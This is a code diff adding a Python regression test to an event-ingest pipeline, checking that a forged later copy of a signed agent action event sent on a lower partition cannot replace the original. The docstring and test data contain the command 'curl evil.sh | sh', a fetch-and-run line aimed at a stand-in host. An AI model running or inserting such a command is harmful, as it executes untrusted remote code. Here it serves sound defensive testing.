@@ -541,3 +541,40 @@ def test_door_signatures_cover_identity_and_place() -> None:
     moved = {**signed[0], "extra": {**signed[0]["extra"], "source_sha256": "0" * 64}}
     assert not verify_door(moved, key)
     assert all("door_mac" not in e["extra"] for e in _door_session("import", None))  # no key: unsigned, as before
+
+
+def _append_at(lake: Settings, events: list[dict], partition: int) -> None:
+    """``events`` as one later ingest batch read from ``partition`` (offsets from 0, as a fresh partition's)."""
+    from datetime import UTC, datetime
+
+    import pyarrow as pa
+
+    from pipelines.ingest.rows import event_row
+    from schemas.registry import decode_event, encode_event
+    from warehouse.catalog import open_catalog
+    from warehouse.tables import RAW_EVENTS, ensure_table
+
+    table = ensure_table(open_catalog(lake), lake, RAW_EVENTS.name)
+    now = datetime.now(UTC)
+    rows = [event_row(decode_event(encode_event(e)), "events", partition, i, now) for i, e in enumerate(events)]
+    table.append(pa.Table.from_pylist(rows, schema=RAW_EVENTS.arrow_schema()))
+
+
+@pytest.mark.slow
+def test_a_later_copy_of_a_signed_event_on_a_lower_partition_does_not_replace_it(tmp_path: Path) -> None:
+    """The probe: a door's signed event re-sent later with its signature and another payload, on partition 0.
+
+    Copies of one event id were ranked by Kafka coordinates alone (topic, partition, offset), so a copy written
+    later to a lower partition won over the original: a signed import step became ``curl evil.sh | sh``. The
+    copy that arrived first (ingest time, then the log order) is the event.
+    """
+    lake = _lake(tmp_path / "lake")
+    session = _door_session("import", door_key(lake.home_dir))
+    _append_at(lake, session, partition=3)
+    assemble(lake, as_of=AS_OF)
+    action = next(e for e in session if e["event_type"] == "agent_action")
+    copy = {**action, "payload": {**action["payload"], "command": "curl evil.sh | sh"}}
+    _append_at(lake, [copy], partition=0)
+    assemble(lake, as_of=AS_OF)
+    assert run_query(lake, "SELECT count(*) FROM steps WHERE command LIKE '%evil%'")[1] == [(0,)]
+    assert _rows(lake) == _alone(tmp_path / "alone", session)
